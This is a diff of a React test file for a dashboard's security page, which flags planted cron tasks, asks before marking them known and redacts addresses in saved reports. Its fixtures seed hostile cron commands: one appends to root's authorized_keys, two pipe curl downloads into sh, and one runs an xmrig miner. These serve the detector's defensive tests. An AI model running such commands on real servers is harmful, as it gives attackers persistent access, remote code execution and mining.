@@ -1,8 +1,19 @@
-import { fireEvent, screen, within } from '@testing-library/react'
+import { fireEvent, screen, waitFor, within } from '@testing-library/react'
 import { expect, test } from 'vitest'
 import { renderApp } from '../../../app.tsx'
+import { catchFile } from '../../../list.ts'
 
 const group = async (name: RegExp) => within(await screen.findByRole('region', { name }))
+
+/** Answers the question as well. */
+async function putAside(
+  user: Awaited<ReturnType<typeof renderApp>>['user'],
+  act: Awaited<ReturnType<typeof group>>,
+  name: string,
+) {
+  await user.click(act.getByRole('button', { name: `I know this: ${name}` }))
+  await user.click(within(await screen.findByRole('alertdialog')).getByRole('button', { name: 'I know this' }))
+}
 
 test('security: planted tasks are shown with their evidence, and one that is known comes back when it changes', async () => {
   const seed = { cron: [{ id: 4, name: 'AutoTask', command: 'echo a >> /root/.ssh/authorized_keys # 198.51.100.7' }] }
@@ -10,11 +21,78 @@ test('security: planted tasks are shown with their evidence, and one that is kno
   const act = await group(/^Act now \(1\)/)
   expect(act.getByRole('link', { name: 'AutoTask' })).toHaveAttribute('href', '/dashboard/cron?edit=4')
   expect(act.getByText('Writes to the list of SSH keys: >> /root/.ssh/authorized_keys')).toBeVisible()
-  await user.click(act.getByRole('button', { name: 'I know this: AutoTask' }))
-  expect((await group(/^Act now \(0\)/)).getByText('1 known entry')).toBeVisible()
-  backend.tables.cron[0]!.command = 'echo b >> /root/.ssh/authorized_keys'
+  expect(act.queryByText(/^You knew an earlier form/)).toBeNull()
+  await putAside(user, act, 'AutoTask')
+  const known = await group(/^Act now \(0\)/)
+  expect(known.getByText('1 known entry')).toBeVisible()
+  expect(known.getByText('All that was found here is marked as known (1).')).toBeVisible()
+  expect(known.queryByText('Nothing of a known kind was found.')).toBeNull()
+  backend.tables.cron[0]!.cover = 1
   reopen('/settings/security')
+  const again = await group(/^Act now \(1\)/)
+  expect(again.getByText('You knew an earlier form of this. It has changed since.')).toBeVisible()
+})
+
+test('security: what is to be acted on is put aside only after a question, and the focus stays in its group', async () => {
+  const seed = { cron: [{ id: 4, name: 'AutoTask', command: 'echo a >> /root/.ssh/authorized_keys' }] }
+  const { user } = await renderApp('/settings/security', { seed })
+  const act = await group(/^Act now \(1\)/)
+  await user.click(act.getByRole('button', { name: 'I know this: AutoTask' }))
+  const question = within(await screen.findByRole('alertdialog', { name: 'Put “AutoTask” aside as known?' }))
+  await user.click(question.getByRole('button', { name: 'Cancel' }))
+  await putAside(user, await group(/^Act now \(1\)/), 'AutoTask')
+  const emptied = await screen.findByRole('region', { name: /^Act now \(0\)/ })
+  expect(emptied).toHaveFocus()
+})
+
+test('security: an address is whole on the screen, and in parts in a saved report, which has all that the screen has', async () => {
+  const seed = {
+    user: [
+      { id: 1, username: 'admin', role: 0, created_at: '2026-01-01T00:00:00Z' },
+      { id: 2, username: 'ops', role: 1 },
+    ],
+    cron: [{ id: 4, name: 'AutoTask', command: 'curl -u bob:hunter2 http://198.51.100.7/x | sh' }],
+  }
+  const { user } = await renderApp('/settings/security', { seed })
+  const act = await group(/^Act now \(1\)/)
+  expect(act.getByText(/^Downloads from a bare address: .*198\.51\.100\.7/)).toBeVisible()
+  await user.click(screen.getByRole('checkbox', { name: 'All users have new passwords.' }))
+  const { saved, restore } = catchFile()
+  await user.click(screen.getByRole('button', { name: 'Save as text' }))
+  await waitFor(() => expect(saved.file).toBeDefined())
+  restore()
+  const text = await saved.file!.text()
+  expect(text).toContain('198.51.x.x')
+  expect(text).not.toMatch(/198\.51\.100|hunter2/)
+  expect(text).toContain('Version 2.3.8 is the nearest one')
+  expect(text).toContain('  [x] All users have new passwords.')
+  expect(text).toContain('  [ ] The client secrets of OAuth2 providers are replaced.')
+  expect(text).toContain('  - Tunnels with a name of the dashboard: none of 0')
+  expect(text.trimEnd()).toMatch(/crontab -l; cat \/etc\/crontab \/etc\/cron\.d\/\*$/)
+})
+
+test('security: what was examined is told by what was looked for, with how many records', async () => {
+  const seed = { nat: [1, 2].map((id) => ({ id, name: `box ${id}`, domain: `${id}.example.com` })) }
+  await renderApp('/settings/security', { seed })
+  await group(/^Act now \(0\)/)
+  expect(screen.getByText('Tunnels with a name of the dashboard: none of 2')).toBeInTheDocument()
+  expect(screen.queryByText('The tunnel has the name of this dashboard')).toBeNull()
+})
+
+test('security: a state is kept without a question only if nothing is to be acted on', async () => {
+  const seed = { cron: [{ id: 4, name: 'AutoTask', command: './xmrig' }] }
+  const { user } = await renderApp('/settings/security', { seed })
   await group(/^Act now \(1\)/)
+  const keep = await screen.findByRole('button', { name: 'Keep in this browser' })
+  await user.click(keep)
+  const question = within(await screen.findByRole('alertdialog', { name: 'Keep this state as known?' }))
+  expect(question.getByText(/^“Act now” is not empty \(1\)/)).toBeVisible()
+  await user.click(question.getByRole('button', { name: 'Cancel' }))
+  expect(screen.queryByText(/^Kept in this browser/)).toBeNull()
+  await user.click(await screen.findByRole('button', { name: 'Keep in this browser' }))
+  const again = within(await screen.findByRole('alertdialog'))
+  await user.click(again.getByRole('button', { name: 'Keep in this browser' }))
+  expect(await screen.findByText(/^Kept in this browser on/)).toBeVisible()
 })
 
 test('security: Settings leads to it, with the number of what is found and not known yet', async () => {
@@ -44,18 +122,17 @@ test('security: what has changed since a state was kept comes first, and at once
 })
 
 test('security: the second press of a double click does not put the next entry aside, which takes the focus', async () => {
-  const command = 'echo a >> /root/.ssh/authorized_keys'
-  const seed = { cron: ['AutoTask', 'mon-check', 'update'].map((name, at) => ({ id: at + 1, name, command })) }
+  const command = 'curl https://example.com/a | sh'
+  const seed = { cron: ['setup', 'install', 'update'].map((name, at) => ({ id: at + 1, name, command })) }
   const { user } = await renderApp('/settings/security', { seed })
-  const act = await group(/^Act now \(3\)/)
-  await user.click(act.getByRole('button', { name: 'I know this: AutoTask' }))
-  const left = await group(/^Act now \(2\)/)
-  const next = left.getByRole('button', { name: 'I know this: mon-check' })
+  const look = await group(/^Look at/)
+  await user.click(look.getByRole('button', { name: 'I know this: setup' }))
+  const next = (await group(/^Look at/)).getByRole('button', { name: 'I know this: install' })
   expect(document.activeElement).toBe(next.closest('li'))
   fireEvent.click(next, { detail: 2 })
-  expect(screen.getByRole('region', { name: /^Act now \(2\)/ })).toBeVisible()
+  expect(screen.getByRole('button', { name: 'I know this: install' })).toBeVisible()
   await user.tab()
-  expect(left.getByRole('link', { name: 'mon-check' })).toHaveFocus()
+  expect(screen.getByRole('link', { name: 'install' })).toHaveFocus()
 })
 
 test('security: it never calls a server safe or clean', async () => {
@@ -112,4 +189,16 @@ test('security: on paper there is each of many findings', async () => {
   expect(act.queryByRole('link', { name: 'task 60' })).toBeNull()
   window.dispatchEvent(new Event('beforeprint'))
   expect(act.getByRole('link', { name: 'task 60' })).toBeVisible()
+})
+
+test('security: on paper there is what is folded on the screen', async () => {
+  await renderApp('/settings/security', { data: 'empty' })
+  await group(/^Act now \(0\)/)
+  const folded = screen.getByText(/^Nothing found \(\d\d examined\)/).closest('details')!
+  expect(folded).not.toHaveAttribute('open')
+  window.dispatchEvent(new Event('beforeprint'))
+  expect(folded).toHaveAttribute('open')
+  expect(screen.getByText(/Examined on/)).toBeVisible()
+  window.dispatchEvent(new Event('afterprint'))
+  expect(folded).not.toHaveAttribute('open')
 })
